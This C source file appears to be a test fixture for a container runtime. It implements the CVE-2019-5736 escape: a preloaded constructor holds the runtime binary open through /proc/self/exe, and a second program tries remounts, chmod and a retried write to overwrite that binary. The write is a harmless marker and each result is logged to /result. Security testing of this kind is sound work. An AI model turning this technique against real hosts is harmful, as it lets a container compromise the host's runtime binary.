/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The attack of CVE-2019-5736, for image.bash and own_executable.bats. As a library it is what the image makes the
 * loader preload into whatever is executed in the container: it keeps the runtime's binary open by /proc/self/exe and
 * leaves it to the second part, the program, to write it once nobody executes it any more. What each way answered goes
 * into /result/WAY; /result/done comes last.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef PROGRAM

__attribute__((constructor)) static void attack(void)
{
    int fd = open("/proc/self/exe", O_PATH);
    char path[64];

    /* The parent ends at once, and with it everybody who executes the binary. */
    if (fd < 0 || fork() != 0)
        _exit(0);
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    execl("/attacker", "attacker", path, NULL);
    _exit(1);
}

#else

#define REMOUNT_BIND (0x20ul | 0x1000ul) /* MS_REMOUNT | MS_BIND of <sys/mount.h> */
#define TRIES 1000

static void report(const char *way, long status)
{
    const char *answer = status < 0 ? strerrorname_np(errno) : "succeeded";
    char path[64];
    FILE *file;

    snprintf(path, sizeof(path), "/result/%s", way);
    file = fopen(path, "w");
    if (!file)
        return;
    fputs(answer, file);
    fclose(file);
}

/* What CAP_SYS_ADMIN may try on the mount of the binary. */
static void attack_mount(int fd, const char *path)
{
    struct mount_attr writable = {.attr_clr = MOUNT_ATTR_RDONLY};

    report("mount_setattr", syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &writable, sizeof(writable)));
    report("remount", syscall(SYS_mount, NULL, path, NULL, REMOUNT_BIND, NULL));
    report("open_tree", syscall(SYS_open_tree, fd, "", OPEN_TREE_CLONE | AT_EMPTY_PATH));
    report("move_mount", syscall(SYS_move_mount, fd, "", AT_FDCWD, "/tmp/file", MOVE_MOUNT_F_EMPTY_PATH));
}

/* As long as somebody executes it, the kernel answers ETXTBSY. */
static long overwrite(const char *path)
{
    static const char text[] = "overwritten";
    int fd = open(path, O_WRONLY);

    for (int tries = 0; fd < 0 && errno == ETXTBSY && tries < TRIES; tries++) {
        usleep(5000);
        fd = open(path, O_WRONLY);
    }
    return fd < 0 ? -1 : write(fd, text, strlen(text));
}

int main(int count, char **arguments)
{
    const char *path = count > 1 ? arguments[1] : "";

    attack_mount(atoi(path + strlen("/proc/self/fd/")), path);
    report("chmod", chmod(path, 0777));
    report("write", overwrite(path));
    report("done", 0);
    return 0;
}

#endif
